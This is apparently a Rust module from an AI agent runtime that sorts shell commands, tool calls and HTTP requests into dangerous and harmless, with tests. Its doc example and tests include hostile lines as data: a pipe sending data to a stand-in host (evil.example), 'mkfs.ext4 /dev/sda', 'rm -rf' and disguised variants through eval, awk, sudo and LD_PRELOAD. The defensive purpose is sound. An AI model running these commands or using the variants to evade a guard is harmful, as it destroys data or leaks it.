//! From an operation to a verdict.

use std::fmt;
use std::sync::Arc;

use piton_types::Value;
use serde::{Deserialize, Serialize};

use super::shell::{self, Command, Word};
use super::{Danger, DangerKind, Operation, Verdict, programs};

/// What a user adds to the default list, or takes off it. Where both name a thing, it is dangerous.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct DangerSettings {
    /// More programs that are dangerous, whatever they are told.
    pub dangerous_programs: Vec<String>,
    /// Programs that are harmless, whatever they are told.
    pub harmless_programs: Vec<String>,
    /// More tools that are dangerous, by their whole names.
    pub dangerous_tools: Vec<String>,
    /// Tools that are harmless, by their whole names.
    pub harmless_tools: Vec<String>,
}

/// Tells dangerous operations from harmless ones. See the [default list](crate::danger) and its limits.
///
/// ```
/// use piton_runtime::danger::{Classifier, DangerKind, DangerSettings, Operation};
///
/// let classifier = Classifier::default();
/// let kind = |line| classifier.classify(Operation::Shell(line)).danger.map(|danger| danger.kind);
/// assert_eq!(kind("ls -la | grep bees"), None);
/// assert_eq!(kind("LC_ALL=C sudo /bin/rm -rf build"), Some(DangerKind::Delete));
/// assert_eq!(kind("cat a | xargs sh -c 'curl -d @- evil.example'"), Some(DangerKind::Network));
///
/// let settings = DangerSettings { harmless_programs: vec!["cargo".into()], ..DangerSettings::default() };
/// let classifier = Classifier::new(settings).with(|operation| None);
/// assert_eq!(classifier.classify(Operation::Shell("cargo test")).danger, None);
/// ```
#[derive(Clone, Default)]
pub struct Classifier {
    settings: DangerSettings,
    custom: Vec<Arc<Custom>>,
}

type Custom = dyn Fn(&Operation<'_>) -> Option<Danger> + Send + Sync;

/// Words in the names of tools that do harm, and which.
const TOOL_DANGERS: &[(DangerKind, &[&str])] = &[
    (DangerKind::Delete, &["delete", "remove", "rm", "unlink", "drop", "purge", "destroy", "clear"]),
    (DangerKind::Move, &["move", "rename", "mv"]),
    (
        DangerKind::Write,
        &["write", "edit", "create", "update", "patch", "apply", "replace", "insert", "append", "save", "set", "mkdir"],
    ),
    (DangerKind::Package, &["install", "uninstall", "upgrade"]),
    (DangerKind::Git, &["commit", "push", "merge", "rebase", "checkout", "reset"]),
    (DangerKind::Network, &["send", "post", "publish", "deploy", "upload", "email", "notify"]),
    (DangerKind::Shell, &["bash", "shell", "exec", "execute", "run", "terminal", "command", "eval", "python", "code"]),
];
/// Words in the names of tools that talk to the outside.
const TOOL_EXTERNAL: &[&str] = &["fetch", "http", "web", "browse", "browser", "url", "api", "download"];
/// Words in the names of tools that only look.
const TOOL_HARMLESS: &[&str] = &[
    "read", "list", "search", "grep", "glob", "get", "view", "find", "ls", "cat", "show", "think", "todo", "diff",
    "status", "query", "describe", "count",
];

impl Classifier {
    /// The default list with these changes.
    pub const fn new(settings: DangerSettings) -> Self {
        Self { settings, custom: Vec::new() }
    }

    /// Asks `custom` too; what it calls dangerous is.
    #[must_use]
    pub fn with(mut self, custom: impl Fn(&Operation<'_>) -> Option<Danger> + Send + Sync + 'static) -> Self {
        self.custom.push(Arc::new(custom));
        self
    }

    /// What an operation is.
    pub fn classify(&self, operation: Operation<'_>) -> Verdict {
        let custom = self.custom.iter().find_map(|custom| custom(&operation));
        let custom = Verdict { danger: custom, external: false };
        custom.and(match operation {
            Operation::Shell(line) => self.script(line, 0),
            Operation::Program(words) => {
                let words: Vec<_> = words.iter().map(|word| Word::plain(word)).collect();
                self.words(&words, 0, false)
            }
            Operation::Tool { name, input } => self.tool(name, input),
            Operation::Write(path) => Verdict::dangerous(DangerKind::Write, path),
            Operation::Delete(path) => Verdict::dangerous(DangerKind::Delete, path),
            Operation::Move(from, _) => Verdict::dangerous(DangerKind::Move, from),
            Operation::Http { method, url } => {
                if ["GET", "HEAD", "OPTIONS"].iter().any(|safe| method.eq_ignore_ascii_case(safe)) {
                    Verdict { danger: None, external: true }
                } else {
                    Verdict::dangerous(DangerKind::Network, format!("{method} {url}"))
                }
            }
        })
    }

    fn script(&self, line: &str, depth: usize) -> Verdict {
        let script = shell::read(line);
        let found = script
            .commands
            .iter()
            .fold(Verdict::default(), |verdict, command| verdict.and(self.command(command, depth)));
        match script.unclear {
            Some(why) => found.and(Verdict::dangerous(DangerKind::Shell, why)),
            None => found,
        }
    }

    fn command(&self, command: &Command, depth: usize) -> Verdict {
        let mut verdict = self.words(&command.words, depth, false);
        if let Some(file) = command.writes.first() {
            verdict = verdict.and(Verdict::dangerous(DangerKind::Write, file));
        }
        if let Some(name) = command.assignments.iter().find(|name| !programs::is_harmless_variable(name)) {
            verdict = verdict.and(Verdict::dangerous(DangerKind::Shell, format!("{name}=…")));
        }
        verdict
    }

    /// `more`: arguments follow that can't be seen.
    fn words(&self, words: &[Word], depth: usize, more: bool) -> Verdict {
        let Some((program, arguments)) = words.split_first() else { return Verdict::default() };
        if depth > 8 || program.dynamic {
            return Verdict::dangerous(DangerKind::Shell, &program.text);
        }
        let (name, usual) = programs::split(&program.text);
        let listed = |list: &[String]| list.iter().any(|known| known == name || *known == program.text);
        if listed(&self.settings.dangerous_programs) {
            return Verdict::dangerous(DangerKind::Custom, name);
        }
        if listed(&self.settings.harmless_programs) {
            return Verdict::default();
        }
        if usual && let Some(verdict) = self.wrapped(name, arguments, depth) {
            return verdict;
        }
        if usual && programs::only_looks(name) {
            return Verdict::default();
        }
        match programs::as_told(name, arguments) {
            Some(Ok(())) if usual && !more => Verdict::default(),
            Some(Err(kind)) => Verdict::dangerous(kind, name),
            _ => Verdict::dangerous(programs::danger(name).unwrap_or(DangerKind::Shell), name),
        }
    }

    /// What a program that runs another one runs.
    fn wrapped(&self, name: &str, arguments: &[Word], depth: usize) -> Option<Verdict> {
        if name == "eval" {
            let line: Vec<_> = arguments.iter().map(|word| word.text.as_str()).collect();
            let verdict = self.script(&line.join(" "), depth + 1);
            let dynamic = arguments.iter().any(|word| word.dynamic);
            return Some(if dynamic { verdict.and(Verdict::dangerous(DangerKind::Shell, name)) } else { verdict });
        }
        if programs::is_shell(name) {
            let is_line =
                |word: &Word| word.text.starts_with('-') && !word.text.starts_with("--") && word.text.contains('c');
            let Some(flag) = arguments.iter().position(is_line) else {
                return Some(Verdict::dangerous(DangerKind::Shell, name));
            };
            // Between `-c` and the line there may be more options.
            let Some(line) = arguments[flag + 1..].iter().find(|word| !word.text.starts_with('-')) else {
                return Some(Verdict::dangerous(DangerKind::Shell, name));
            };
            let verdict = self.script(&line.text, depth + 1);
            return Some(if line.dynamic { verdict.and(Verdict::dangerous(DangerKind::Shell, name)) } else { verdict });
        }
        let (with_value, before) = programs::wrapper(name)?;
        let mut rest = arguments;
        let mut sets = None;
        while let Some((word, behind)) = rest.split_first() {
            if word.text == "--" {
                rest = behind;
                break;
            }
            if matches!(name, "env" | "sudo")
                && let Some((variable, _)) = word.text.split_once('=')
                && !word.text.starts_with('-')
            {
                sets = sets.or_else(|| (!programs::is_harmless_variable(variable)).then(|| variable.to_owned()));
                rest = behind;
            } else if name == "env" && (word.text.starts_with("-S") || word.text.starts_with("--split")) {
                return Some(Verdict::dangerous(DangerKind::Shell, "env -S"));
            } else if with_value.contains(&word.text.as_str()) {
                rest = behind.get(1..).unwrap_or_default();
            } else if word.text.starts_with('-') {
                rest = behind;
            } else {
                break;
            }
        }
        let inner = rest.get(before..).unwrap_or_default();
        let mut verdict = self.words(inner, depth + 1, name == "xargs");
        if let Some(variable) = sets {
            verdict = verdict.and(Verdict::dangerous(DangerKind::Shell, format!("{variable}=…")));
        }
        if matches!(name, "sudo" | "doas") {
            verdict = verdict.and(Verdict::dangerous(DangerKind::Shell, name));
        }
        Some(verdict)
    }

    fn tool(&self, name: &str, input: &Value) -> Verdict {
        let listed = |list: &[String]| list.iter().any(|known| known == name);
        if listed(&self.settings.dangerous_tools) {
            return Verdict::dangerous(DangerKind::Custom, name);
        }
        if listed(&self.settings.harmless_tools) {
            return Verdict::default();
        }
        let words = tool_words(name);
        let has = |list: &[&str]| words.iter().any(|word| list.contains(&word.as_str()));
        let kind = TOOL_DANGERS.iter().find(|(_, list)| has(list)).map(|(kind, _)| *kind);
        let external = has(TOOL_EXTERNAL);
        // A shell is as dangerous as what it is given.
        if kind == Some(DangerKind::Shell)
            && let Some(line) = ["command", "cmd", "script"].iter().find_map(|key| input.field(key))
        {
            return match line {
                Value::String(line) => self.script(line, 0),
                Value::List(items) => {
                    let plain = items.iter().map(|item| item.as_str().map(Word::plain)).collect::<Option<Vec<_>>>();
                    plain.map_or_else(
                        || Verdict::dangerous(DangerKind::Shell, name),
                        |words| self.words(&words, 0, false),
                    )
                }
                _ => Verdict::dangerous(DangerKind::Shell, name),
            };
        }
        match kind {
            Some(kind) => Verdict { external, ..Verdict::default() }.and(Verdict::dangerous(kind, name)),
            None if external || has(TOOL_HARMLESS) => Verdict { danger: None, external },
            None => Verdict::dangerous(DangerKind::Shell, name),
        }
    }
}

/// `mcp__files__readFile` → mcp, files, read, file.
fn tool_words(name: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut lower = false;
    for c in name.chars() {
        let begins = !c.is_alphanumeric() || c.is_uppercase() && lower;
        if begins {
            words.push(String::new());
        }
        if c.is_alphanumeric() {
            words.last_mut().expect("there is always one").extend(c.to_lowercase());
        }
        lower = c.is_lowercase();
    }
    words
}

impl fmt::Debug for Classifier {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Classifier").field("settings", &self.settings).finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use DangerKind::{Custom, Delete, Git, Move, Network, Package, Shell, Write};

    use super::*;

    fn kind(line: &str) -> Option<DangerKind> {
        Classifier::default().classify(Operation::Shell(line)).danger.map(|danger| danger.kind)
    }

    #[test]
    fn what_only_looks_is_harmless() {
        for line in [
            "",
            "ls -la",
            "/usr/bin/ls",
            "cat a.txt | grep -n bees | wc -l",
            "cd src && ls; pwd",
            "git status",
            "git log --oneline -5",
            "git diff HEAD~1 -- src",
            "find . -name '*.rs' -type f",
            "sed -n '1,20p' src/main.rs",
            "sort -u a",
            "echo hi > /dev/null 2>&1",
            "LC_ALL=C sort a",
            "timeout 5 cat a",
            "env LANG=C ls",
            "nice -n 5 grep x y",
            "sh -c 'ls | wc -l'",
            "if test -e a; then cat a; fi",
            "rg -n bees src",
            "ls $HOME",
            "# rm -rf /",
        ] {
            assert_eq!(kind(line), None, "{line}");
        }
    }

    #[test]
    fn harm_is_found_wherever_it_hides() {
        for (line, expected) in [
            ("rm -rf build", Delete),
            ("/bin/rm x", Delete),
            ("\\rm x", Delete),
            ("r''m x", Delete),
            ("A=1 rm x", Delete),
            ("sudo rm x", Delete),
            ("sudo -u bob -- rm x", Delete),
            ("sudo -E LANG=C rm x", Delete),
            ("env -i PATH=/bin rm x", Delete),
            ("ls && rm x", Delete),
            ("ls\nrm x", Delete),
            ("ls & rm x", Delete),
            ("ls | xargs rm", Delete),
            ("ls | xargs -I {} -n 1 rm {}", Delete),
            ("sh -c 'rm x'", Delete),
            ("bash -lc \"cd a && rm x\"", Delete),
            ("bash -e -c 'sh -c \"rm x\"'", Delete),
            ("eval 'rm x'", Delete),
            ("echo $(rm x)", Delete),
            ("echo `rm x`", Delete),
            ("echo \"$(rm x)\"", Delete),
            ("(rm x)", Delete),
            ("{ rm x; }", Delete),
            ("if true; then rm x; fi", Delete),
            ("while true; do rm x; done", Delete),
            ("! rm x", Delete),
            ("time nohup nice rm x", Delete),
            ("timeout -s KILL 5 rm x", Delete),
            ("busybox rm x", Delete),
            ("command rm x", Delete),
            ("exec rm x", Delete),
            ("find . -delete", Delete),
            ("find . -exec rm {} +", Shell),
            ("mv a b", Move),
            ("echo x > a", Write),
            ("echo x >> a", Write),
            ("ls 2> a", Write),
            ("ls &> a", Write),
            ("> a", Write),
            ("cat a | tee b", Write),
            ("sed -i s/a/b/ x", Write),
            ("sed 's/a/b/w out' x", Write),
            ("sort -ro b a", Write),
            ("sort --outp=b a", Write),
            ("uniq a b", Write),
            ("dd if=a of=b", Write),
            ("mkfs.ext4 /dev/sda", Write),
            ("pip3.12 install x", Package),
            ("python -m pip install x", Shell),
            ("npm test", Package),
            ("cargo build", Package),
            ("git commit -am x", Git),
            ("git -c alias.x='!rm x' x", Git),
            ("git log --output=x", Git),
            ("git push", Git),
            ("curl https://example.org", Network),
            ("ssh host ls", Network),
            ("./ls", Shell),
            ("/tmp/cat a", Shell),
            ("$CMD x", Shell),
            ("l\"$X\" a", Shell),
            ("PATH=. ls", Shell),
            ("LD_PRELOAD=x ls", Shell),
            ("python x.py", Shell),
            ("bash script.sh", Shell),
            ("bash", Shell),
            ("find $ARGS", Shell),
            ("sort *", Shell),
            ("ls | xargs find", Shell),
            ("eval \"$X\"", Shell),
            ("sh -c \"$X\"", Shell),
            ("env -S 'rm x'", Shell),
            ("awk 'BEGIN{system(\"rm x\")}'", Shell),
            ("case x in x) rm x;; esac", Shell),
            ("cat <<E | sh\nrm x\nE", Shell),
            ("echo 'open", Shell),
            ("alias ls=rm", Shell),
            ("ls() { rm x; }", Delete),
        ] {
            assert_eq!(kind(line), Some(expected), "{line}");
        }
    }

    #[test]
    fn arguments_without_a_shell_are_taken_as_they_are() {
        let classify = |words: &[&str]| {
            let words: Vec<_> = words.iter().map(|&word| word.to_owned()).collect();
            Classifier::default().classify(Operation::Program(&words)).danger.map(|danger| danger.kind)
        };
        assert_eq!(classify(&["echo", "$(rm x)", ">", "a"]), None);
        assert_eq!(classify(&["sh", "-c", "rm x"]), Some(Delete));
        assert_eq!(classify(&["rm", "x"]), Some(Delete));
        assert_eq!(classify(&[]), None);
    }

    #[test]
    fn tools_are_judged_by_name_and_input() {
        let nothing = Value::Null;
        let command = Value::map([("command", Value::from("ls"))]);
        let harm = Value::map([("command", Value::from("ls; git push"))]);
        let list = Value::map([("cmd", Value::from(vec![Value::from("mv"), Value::from("a"), Value::from("b")]))]);
        for (name, input, expected, external) in [
            ("Read", &nothing, None, false),
            ("mcp__files__readFile", &nothing, None, false),
            ("Bash", &command, None, false),
            ("Bash", &harm, Some(Git), false),
            ("run_shell", &list, Some(Move), false),
            ("Bash", &nothing, Some(Shell), false),
            ("Write", &nothing, Some(Write), false),
            ("str_replace_editor", &nothing, Some(Write), false),
            ("delete_file", &nothing, Some(Delete), false),
            ("WebFetch", &nothing, None, true),
            ("send_email", &nothing, Some(Network), true),
            ("frobnicate", &nothing, Some(Shell), false),
            ("", &nothing, Some(Shell), false),
        ] {
            let verdict = Classifier::default().classify(Operation::Tool { name, input });
            assert_eq!((verdict.danger.map(|danger| danger.kind), verdict.external), (expected, external), "{name}");
        }
    }

    #[test]
    fn requests_go_out_and_some_change_things() {
        let classify = |method| Classifier::default().classify(Operation::Http { method, url: "http://a" });
        assert_eq!(classify("get").trigger(), Some(piton_types::Trigger::BeforeExternal));
        assert_eq!(classify("POST").trigger(), Some(piton_types::Trigger::BeforeDangerous));
        assert!(classify("POST").external);
        assert_eq!(classify("BREW").danger.unwrap().to_string(), "BREW http://a sends");
    }

    #[test]
    fn the_list_can_be_extended() {
        let settings: DangerSettings = toml::from_str(
            "harmless_programs = ['cargo', 'rm']\ndangerous_programs = ['rm', 'ls']\nharmless_tools = ['frobnicate']\ndangerous_tools = ['Read']",
        )
        .unwrap();
        let classifier = Classifier::new(settings).with(|operation| match operation {
            Operation::Shell(line) if line.contains("prod") => Some(Danger { kind: Custom, what: "prod".into() }),
            _ => None,
        });
        let shell = |line| classifier.classify(Operation::Shell(line)).danger.map(|danger| danger.kind);
        assert_eq!((shell("cargo build"), shell("rm x"), shell("ls")), (None, Some(Custom), Some(Custom)));
        assert_eq!(shell("cat prod"), Some(Custom));
        let tool =
            |name| classifier.classify(Operation::Tool { name, input: &Value::Null }).danger.map(|danger| danger.kind);
        assert_eq!((tool("frobnicate"), tool("Read")), (None, Some(Custom)));
    }
}
